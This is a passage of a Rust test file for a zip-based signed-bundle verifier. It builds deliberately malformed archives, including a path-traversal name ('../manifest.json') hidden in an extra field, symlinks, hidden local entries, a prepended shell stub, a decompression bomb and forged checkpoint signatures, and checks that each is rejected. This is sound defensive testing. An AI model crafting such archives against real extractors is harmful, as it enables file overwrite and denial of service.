    let f = Fixture::new();
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::stored("manifest.json\0.txt", b"x"))),
        BundleError::Archive(ArchiveError::NulInName { .. })
    );
}

#[test]
fn rejects_duplicate_names() {
    let f = Fixture::new();
    // A second manifest, which some tools would extract over the first.
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::stored(MANIFEST, b"{}"))),
        BundleError::Archive(ArchiveError::DuplicateName { name }) if name == MANIFEST
    );
}

#[test]
fn rejects_case_collision() {
    let f = Fixture::new();
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::stored("Manifest.json", b"{}"))),
        BundleError::Archive(ArchiveError::CaseCollision { .. })
    );
}

#[test]
fn rejects_normalization_collision() {
    let f = Fixture::new();
    let mut raw = f.raw();
    raw.entries.push(RawEntry::stored("report/caf\u{e9}", b"1"));
    raw.entries.push(RawEntry::stored("report/cafe\u{301}", b"2"));
    assert_err!(
        f.check_raw(&raw),
        BundleError::Archive(ArchiveError::NormalizationCollision { .. })
    );
}

#[test]
fn rejects_symlink() {
    let f = Fixture::new();
    let mut raw = f.raw();
    // Replace a blob by a symlink to a file outside.
    let i = raw
        .entries
        .iter()
        .position(|e| e.central.name.starts_with(BLOBS_PREFIX.as_bytes()))
        .unwrap();
    raw.entries[i].external = 0o120_777 << 16;
    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::Symlink { .. }));
}

#[test]
fn rejects_non_regular_entry() {
    let f = Fixture::new();
    let mut e = RawEntry::stored("report/fifo", b"");
    e.external = 0o010_644 << 16;
    assert_err!(
        f.check_raw(&with_entry(&f, e)),
        BundleError::Archive(ArchiveError::NotRegularFile { .. })
    );
    let mut e = RawEntry::stored("report/dir", b"");
    e.external = 0o040_755 << 16;
    assert_err!(
        f.check_raw(&with_entry(&f, e)),
        BundleError::Archive(ArchiveError::NotRegularFile { .. })
    );
}

#[test]
fn rejects_local_name_differing_from_central() {
    let f = Fixture::new();
    let mut raw = f.raw();
    let i = raw.entries.iter().position(|e| e.central.name == MANIFEST.as_bytes()).unwrap();
    raw.entries[i].local.name = b"manifest.jsoN".to_vec();
    assert_err!(
        f.check_raw(&raw),
        BundleError::Archive(ArchiveError::LocalHeaderMismatch { field: "name", .. })
    );
}

#[test]
fn rejects_overlapping_entries() {
    let f = Fixture::new();
    // Named to sort last (after `verify.py`): entries are written in name order.
    let mut twin = RawEntry::stored("zz/twin", b"x");
    twin.in_local = false;
    twin.offset_override = Some(0);
    assert_err!(
        f.check_raw(&with_entry(&f, twin)),
        BundleError::Archive(ArchiveError::OverlappingEntries { .. })
    );
}

#[test]
fn rejects_local_entry_missing_from_central_directory() {
    let f = Fixture::new();
    let mut raw = f.raw();
    let mut hidden = RawEntry::stored("records.jsonl", b"{\"forged\":true}\n");
    hidden.in_central = false;
    raw.entries.insert(1, hidden);
    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::HiddenData { .. }));
}

#[test]
fn rejects_bytes_before_the_archive() {
    let f = Fixture::new();
    let mut raw = f.raw();
    raw.prefix = b"#!/bin/sh\nexit 0\n".to_vec();
    assert_err!(
        f.check_raw(&raw),
        BundleError::ArchiveRejected { source: ArchiveError::PrependedData { .. }, .. }
    );
}

#[test]
fn rejects_bytes_after_the_end_record() {
    let f = Fixture::new();
    let mut raw = f.raw();
    raw.trailing = b"trailer".to_vec();
    assert_err!(
        f.check_raw(&raw),
        BundleError::ArchiveRejected { source: ArchiveError::TrailingData { len: 7 }, .. }
    );
}

#[test]
fn rejects_archive_comment() {
    let f = Fixture::new();
    let mut raw = f.raw();
    raw.comment = b"verified OK".to_vec();
    assert_err!(
        f.check_raw(&raw),
        BundleError::ArchiveRejected { source: ArchiveError::ArchiveComment { len: 11 }, .. }
    );
}

#[test]
fn rejects_unicode_path_extra_field() {
    let f = Fixture::new();
    let mut raw = f.raw();
    let mut field = vec![1];
    field.extend_from_slice(&crc32fast::hash(MANIFEST.as_bytes()).to_le_bytes());
    field.extend_from_slice(b"../manifest.json");
    let i = raw.entries.iter().position(|e| e.central.name == MANIFEST.as_bytes()).unwrap();
    raw.entries[i].central.extra = extra_field(0x7075, &field);
    assert_err!(
        f.check_raw(&raw),
        BundleError::Archive(ArchiveError::UnicodePathExtraField { .. })
    );
}

#[test]
fn rejects_encryption() {
    let f = Fixture::new();
    let mut raw = f.raw();
    for e in &mut raw.entries {
        if e.central.name == RECORDS.as_bytes() {
            e.local.flags |= 1;
            e.central.flags |= 1;
        }
    }
    assert_err!(
        f.check_raw(&raw),
        BundleError::Archive(ArchiveError::Encrypted { name }) if name == RECORDS
    );
}

#[test]
fn rejects_methods_other_than_stored_and_deflate() {
    let f = Fixture::new();
    for method in [1u16, 12, 14, 93, 95] {
        let mut raw = f.raw();
        for e in &mut raw.entries {
            if e.central.name == LEAVES.as_bytes() {
                e.local.method = method;
                e.central.method = method;
            }
        }
        assert_err!(
            f.check_raw(&raw),
            BundleError::Archive(ArchiveError::UnsupportedMethod { method: m, .. }) if *m == method
        );
    }
}

#[test]
fn rejects_declared_size_that_lies() {
    let f = Fixture::new();
    let mut raw = f.raw();
    let m = f.members();
    let i = raw.entries.iter().position(|e| e.central.name == RECORDS.as_bytes()).unwrap();
    // Deflated, declaring fewer bytes than it inflates to.
    let records = m.get(RECORDS);
    let mut e = RawEntry::deflated(RECORDS, records);
    e.local.size -= 10;
    e.central.size -= 10;
    raw.entries[i] = e;
    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::ContentTooLong { .. }));
    // And more.
    let mut e = RawEntry::deflated(RECORDS, records);
    e.local.size += 10;
    e.central.size += 10;
    raw.entries[i] = e;
    assert_err!(f.check_raw(&raw), BundleError::Archive(ArchiveError::ContentTooShort { .. }));
}

#[test]
fn rejects_crc_mismatch() {
    let f = Fixture::new();
    let mut raw = f.raw();
    for e in &mut raw.entries {
        if e.central.name == CHECKPOINT.as_bytes() {
            e.local.crc32 ^= 1;
            e.central.crc32 ^= 1;
        }
    }
    assert_err!(
        f.check_raw(&raw),
        BundleError::Archive(ArchiveError::CrcMismatch { name, .. }) if name == CHECKPOINT
    );
}

#[test]
fn rejects_decompression_bomb_by_ratio() {
    let f = Fixture::new();
    let zeros = vec![0u8; 8 << 20];
    assert_err!(
        f.check_raw(&with_entry(&f, RawEntry::deflated("report/bomb", &zeros))),
        BundleError::Archive(ArchiveError::CompressionRatio { .. })
    );
}

fn with_limits(l: Limits) -> VerifyOptions {
    VerifyOptions { limits: l, ..VerifyOptions::default() }
}

#[test]
fn rejects_entry_over_the_size_limit() {
    let f = Fixture::new();
    let options = with_limits({
        let mut limits = Limits::default();
        limits.max_entry_size = 1000;
        limits
    });
    assert_err!(
        f.check_raw_with(&f.raw(), &options),
        BundleError::Archive(ArchiveError::EntryTooLarge { .. })
    );
}

#[test]
fn rejects_total_over_the_size_limit() {
    let f = Fixture::new();
    let options = with_limits({
        let mut limits = Limits::default();
        limits.max_total_size = 10_000;
        limits
    });
    assert_err!(
        f.check_raw_with(&f.raw(), &options),
        BundleError::ArchiveRejected { source: ArchiveError::TotalSizeTooLarge { .. }, .. }
    );
}

#[test]
fn rejects_more_entries_than_the_limit() {
    let f = Fixture::new();
    let options = with_limits({
        let mut limits = Limits::default();
        limits.max_entries = 5;
        limits
    });
    assert_err!(
        f.check_raw_with(&f.raw(), &options),
        BundleError::ArchiveRejected { source: ArchiveError::TooManyEntries { .. }, .. }
    );
}

#[test]
fn verify_reports_unreadable_bundle_as_input_error() {
    let f = Fixture::new();
    let err = f.verify(&f.path("missing.zip")).unwrap_err();
    assert!(!err.is_rejection(), "{err:?}");
    let m = f.members();
    let mut raw = m.raw();
    raw.comment = b"x".to_vec();
    let err = f.check_raw(&raw).unwrap_err();
    assert!(err.is_rejection());
}

#[test]
fn carried_signed_checkpoints_must_be_signed_by_the_trusted_key_and_extended() {
    let f = Fixture::new();
    let signed = super::sign_checkpoint(&f.locker, &f.signer).unwrap();
    let bundle = f.path("signed.zip");
    export(&f.locker, &ExportOptions::new(period()), &f.signer, &bundle).unwrap();
    let trusted = AllowedSigners::parse(f.signer.allowed_signers_line().as_bytes()).unwrap();
    let v = verify(&bundle, &trusted).unwrap();
    assert_eq!(v.signed_checkpoints.len(), 1);
    assert_eq!(v.signed_checkpoints[0].checkpoint.size, 5);

    let note = "checkpoints/00000000000000000005.note";
    let reject = |mutate: &dyn Fn(&mut Members), want: &str| {
        let mut m = Members::read(&bundle);
        mutate(&mut m);
        m.resign(&f.signer);
        let path = f.path("mutated.zip");
        let _ = fs_err::remove_file(&path);
        m.write(&path);
        match verify(&path, &trusted) {
            Err(e @ BundleError::SignedCheckpointInvalid { .. }) => {
                assert!(e.to_string().contains(want), "{e}")
            }
            other => panic!("expected SignedCheckpointInvalid ({want}), got {other:?}"),
        }
    };
    // Signed by another key, well-formed and self-consistent.
    let other = Signer::generate("mallory@example.com").unwrap();
    let (n, s) = other.sign_checkpoint(&signed.checkpoint).unwrap();
    reject(
        &|m| {
            m.set(note, n.clone());
            m.set(&format!("{note}.sig"), s.clone());
        },
        "not signed by the bundle's trusted key",
    );
    // A checkpoint the bundle's tree does not extend (another root), properly signed.
    let mut forged = signed.checkpoint.clone();
    forged.root[0] ^= 1;
    let (n, s) = f.signer.sign_checkpoint(&forged).unwrap();
    reject(
        &|m| {
            m.set(note, n.clone());
            m.set(&format!("{note}.sig"), s.clone());
        },
        "history rewritten",
    );
    // A note without its SSH signature.
    reject(&|m| drop(m.0.remove(&format!("{note}.sig"))), ".note.sig is missing");
}

#[test]
fn a_file_that_is_not_a_zip_is_named_and_classified() {
    let f = Fixture::new();
    let path = f.path("notes.txt");
    fs_err::write(&path, b"just some text, not a bundle\n").unwrap();
    let err = verify_with(&path, &f.trusted(), &VerifyOptions::default()).unwrap_err();
    use crate::error::{Classify, ErrorClass, ErrorCode};
    assert_eq!(err.code(), ErrorCode::ArchiveNotZip);
    assert_eq!(err.class(), ErrorClass::Integrity);
    assert_eq!(err.subject().path.as_deref(), Some(path.as_path()));
    let message = err.to_string();
    assert!(message.starts_with(&format!("{}: not a valid bundle: ", path.display())), "{message}");
}

#[test]
fn a_tampered_member_names_its_member_record_and_code() {
    use crate::error::{Classify, ErrorCode};
    let err = BundleError::BlobSizeMismatch {
        seq: 4,
        sha256: Sha256Digest([0xab; 32]),
        declared: 10,
        actual: 11,
    };
    assert_eq!(err.code(), ErrorCode::BundleBlobSizeMismatch);
    let s = err.subject();
    assert_eq!(s.member.as_deref(), Some(&*format!("blobs/sha256/{}", "ab".repeat(32))));
    assert_eq!((s.records, s.blob), (vec![4], Some(Sha256Digest([0xab; 32]))));
    assert_eq!(err.code().as_str(), "bundle.blob_size_mismatch");
    assert_eq!(err.class().exit_code(), 1);
}
